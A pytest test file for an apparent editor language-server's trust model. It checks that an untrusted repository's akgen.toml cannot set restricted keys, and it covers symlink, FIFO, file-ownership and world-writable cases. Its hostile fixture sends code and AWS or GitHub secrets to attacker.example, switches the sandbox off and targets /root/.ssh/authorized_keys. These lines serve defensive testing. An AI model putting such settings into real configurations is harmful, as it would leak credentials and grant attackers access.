"""The trust model (akgen_lsp/trust.py, docs/security.md), attacked as a repository the victim opens and as another
user of the machine: what an untrusted akgen.toml or an editor may set, where the settings look-up ends, and which
files it refuses to read."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from trust_helpers import as_other, other_uid, user_config

from akgen_lsp import trust
from akgen_lsp.config import load_settings

pytestmark = pytest.mark.hostile

HOSTILE = """arch = "Ascend910B3"
[toolchain]
cxx = "tools/g++"
timeout_s = 590.0
[sim]
sandbox = "off"
max_memory_mb = 999999
[model]
endpoint = "http://attacker.example/v1"
api_key_env = "AWS_SECRET_ACCESS_KEY"
[fix]
store = "/root/.ssh/authorized_keys"
"""
RESTRICTED_IN_HOSTILE = ("toolchain.cxx", "toolchain.timeout_s", "sim.sandbox", "sim.max_memory_mb", "model.endpoint",
                         "model.api_key_env", "fix.store")


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository (with .git) holding a hostile akgen.toml, and an empty user configuration."""
    user_config(tmp_path, monkeypatch)
    root = tmp_path / "repo"
    (root / ".git").mkdir(parents=True)
    (root / "src").mkdir()
    (root / "akgen.toml").write_text(HOSTILE, encoding="utf-8")
    return root


def test_an_untrusted_repository_sets_data_but_no_restricted_key(repo: Path) -> None:
    s = load_settings(repo / "src", env={})
    assert s["arch"] == "Ascend910B3"  # data is honoured
    assert s["toolchain.cxx"] == "g++" and s["sim.sandbox"] == "on" and s["model.endpoint"] == ""
    assert s["model.api_key_env"] == "OPENAI_API_KEY" and s["fix.store"] == "" and s["toolchain.timeout_s"] == 60.0
    assert s["sim.max_memory_mb"] == 16384


@pytest.mark.parametrize("key", RESTRICTED_IN_HOSTILE)
def test_each_ignored_key_is_named_in_a_notice(repo: Path, key: str) -> None:
    notices = load_settings(repo, env={}).notices
    assert any(f"ignored {key} " in n and str(repo / "akgen.toml") in n for n in notices), notices


def test_a_trusted_repository_sets_programs_but_never_switches_the_sandbox_off(repo: Path) -> None:
    trust.add_trusted(repo)
    s = load_settings(repo / "src", env={})
    assert s["toolchain.cxx"] == "tools/g++" and s["model.endpoint"] == "http://attacker.example/v1"
    assert s["sim.sandbox"] == "on"
    assert any("ignored sim.sandbox" in n and "user-level" in n for n in s.notices)


def test_trust_remove_takes_the_trust_back(repo: Path) -> None:
    trust.add_trusted(repo)
    assert trust.remove_trusted(repo)
    assert load_settings(repo, env={})["toolchain.cxx"] == "g++"


def test_a_trusted_parent_covers_its_folders_but_a_sibling_is_not_trusted(repo: Path, tmp_path: Path) -> None:
    trust.add_trusted(repo)
    assert trust.is_trusted(repo / "src")
    assert not trust.is_trusted(tmp_path / "repo-evil")


def test_sandbox_off_from_the_user_config_file_is_honoured_and_named(tmp_path: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    folder = user_config(tmp_path, monkeypatch, '[sim]\nsandbox = "off"\n[toolchain]\ncxx = "/opt/gcc/bin/g++"\n')
    s = load_settings(tmp_path, env={})
    assert s["sim.sandbox"] == "off" and s.origin("sim.sandbox") == str(folder / "config.toml")
    assert s["toolchain.cxx"] == "/opt/gcc/bin/g++"


def test_sandbox_off_from_the_environment_is_honoured(repo: Path) -> None:
    s = load_settings(repo, env={"AKGEN_SIM_SANDBOX": "off"})
    assert s["sim.sandbox"] == "off" and s.origin("sim.sandbox") == "environment variable AKGEN_SIM_SANDBOX"


def test_a_repository_cannot_undo_the_users_sandbox_on(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    user_config(tmp_path, monkeypatch, '[sim]\nsandbox = "on"\n')
    (tmp_path / ".git").mkdir()
    (tmp_path / "akgen.toml").write_text('[sim]\nsandbox = "off"\n')
    assert load_settings(tmp_path, env={})["sim.sandbox"] == "on"


@pytest.mark.parametrize("editor_trust", [None, False, True])
def test_editor_options_never_name_a_program_or_switch_the_sandbox_off(repo: Path, editor_trust: bool | None) -> None:
    opts = {"akgen": {"toolchain": {"cxx": "/tmp/evil"}, "sim": {"sandbox": "off"}}}
    s = load_settings(repo, env={}, editor_options=opts, editor_trust=editor_trust)
    assert s["toolchain.cxx"] != "/tmp/evil" and s["sim.sandbox"] == "on"
    assert any("ignored toolchain.cxx" in n and "initialization options" in n for n in s.notices)


def test_editor_options_send_code_elsewhere_only_in_a_trusted_workspace(repo: Path) -> None:
    opts = {"model": {"endpoint": "http://attacker.example/v1", "api_key_env": "GITHUB_TOKEN"}}
    untrusted = load_settings(repo, env={}, editor_options=opts, root=repo)
    assert untrusted["model.endpoint"] == "" and untrusted["model.api_key_env"] == "OPENAI_API_KEY"
    trusted = load_settings(repo, env={}, editor_options=opts, root=repo, editor_trust=True)
    assert trusted["model.endpoint"] == "http://attacker.example/v1"


def test_the_editors_trust_lets_the_workspace_file_set_restricted_keys(repo: Path) -> None:
    s = load_settings(repo / "src", env={}, root=repo, editor_trust=True)
    assert s["toolchain.cxx"] == "tools/g++" and s["sim.sandbox"] == "on"


def test_look_up_stops_at_the_top_most_git_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    user_config(tmp_path, monkeypatch)
    (tmp_path / "akgen.toml").write_text('arch = "Ascend310P"\n')  # above the repository: not the project's
    proj = tmp_path / "proj"
    (proj / ".git").mkdir(parents=True)
    (proj / "sub" / ".git").mkdir(parents=True)  # a submodule: the top-most .git is the root
    assert trust.project_root(proj / "sub") == proj.resolve()
    assert load_settings(proj / "sub", env={})["arch"] == "Ascend910B2"


def test_look_up_stops_at_the_workspace_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    user_config(tmp_path, monkeypatch)
    (tmp_path / "akgen.toml").write_text('arch = "Ascend310P"\n')
    ws = tmp_path / "ws"
    (ws / "k").mkdir(parents=True)
    assert load_settings(ws / "k", env={}, root=ws)["arch"] == "Ascend910B2"


def test_a_settings_file_in_a_world_writable_folder_is_not_read(tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """The /tmp case: a folder every user may write, above a project without .git."""
    user_config(tmp_path, monkeypatch)
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    (shared / "akgen.toml").write_text('arch = "Ascend310P"\n')
    proj = shared / "victim"
    proj.mkdir()
    s = load_settings(proj, env={})
    assert s["arch"] == "Ascend910B2"


def test_a_settings_file_another_user_owns_is_not_read(repo: Path) -> None:
    os.chown(repo / "akgen.toml", other_uid(), -1)
    s = load_settings(repo, env={})
    assert s["arch"] == "Ascend910B2"
    assert any("owned by another user" in n for n in s.notices), s.notices


def test_a_settings_file_others_may_write_is_not_read(repo: Path) -> None:
    (repo / "akgen.toml").chmod(0o666)
    s = load_settings(repo, env={})
    assert s["arch"] == "Ascend910B2" and any("writable by every user" in n for n in s.notices)


def test_a_folder_of_another_user_ends_the_look_up(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    user_config(tmp_path, monkeypatch)
    theirs = tmp_path / "theirs"
    (theirs / "mine").mkdir(parents=True)
    (theirs / "akgen.toml").write_text('arch = "Ascend310P"\n')
    os.chown(theirs, other_uid(), -1)
    assert load_settings(theirs / "mine", env={})["arch"] == "Ascend910B2"


def test_a_settings_file_linked_out_of_the_project_is_not_read(repo: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside.toml"
    outside.write_text('arch = "Ascend310P"\n')
    (repo / "akgen.toml").unlink()
    (repo / "akgen.toml").symlink_to(outside)
    s = load_settings(repo, env={})
    assert s["arch"] == "Ascend910B2" and any("outside the project" in n for n in s.notices)


def test_a_settings_file_that_is_a_fifo_does_not_hang(repo: Path) -> None:
    (repo / "akgen.toml").unlink()
    os.mkfifo(repo / "akgen.toml")  # reading it would wait for a writer forever
    assert load_settings(repo, env={})["arch"] == "Ascend910B2"
    from akgen_lsp.config import SettingsError, read_config_file

    with pytest.raises(SettingsError, match="not a regular file"):
        read_config_file(repo / "akgen.toml")


def test_a_trust_list_others_may_write_counts_as_empty(repo: Path, tmp_path: Path) -> None:
    trust.add_trusted(repo)
    (tmp_path / "user-config").chmod(0o777)
    assert trust.trusted_folders() == []
    assert load_settings(repo, env={})["toolchain.cxx"] == "g++"


def test_a_trust_list_planted_by_another_user_counts_as_empty(repo: Path, tmp_path: Path) -> None:
    listing = tmp_path / "user-config" / "trusted"
    listing.write_text(f"{repo}\n")
    os.chown(listing, other_uid(), -1)
    assert trust.trusted_folders() == []


def test_another_user_cannot_write_the_trust_list(repo: Path, tmp_path: Path) -> None:
    trust.add_trusted(repo)
    listing = tmp_path / "user-config" / "trusted"
    assert (listing.stat().st_mode & 0o777) == 0o600
    tmp_path.chmod(0o755)
    res = as_other(["sh", "-c", f"echo / >> {listing}"])
    assert res.returncode != 0
    assert trust.trusted_folders() == [repo.resolve()]


def test_the_command_line_names_the_ignored_keys_and_trusts_a_folder(repo: Path) -> None:
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
    run = [sys.executable, "-m", "akgen_lsp"]
    res = subprocess.run([*run, "info", "--json"], cwd=repo, env=env, capture_output=True, text=True, timeout=120)
    assert "ignored toolchain.cxx" in res.stderr and "akgen trust add" in res.stderr
    assert '"tools/g++' not in res.stdout
    added = subprocess.run([*run, "trust", "add", str(repo)], env=env, capture_output=True, text=True, timeout=60)
    assert added.returncode == 0, added.stderr
    listed = subprocess.run([*run, "trust", "list"], env=env, capture_output=True, text=True, timeout=60)
    assert listed.stdout.splitlines() == [str(repo.resolve())]
    res = subprocess.run([*run, "info", "--json"], cwd=repo, env=env, capture_output=True, text=True, timeout=120)
    assert "ignored toolchain.cxx" not in res.stderr and "tools/g++" in res.stdout
    removed = subprocess.run([*run, "trust", "remove", str(repo)], env=env, capture_output=True, text=True, timeout=60)
    assert removed.returncode == 0 and not trust.trusted_folders()
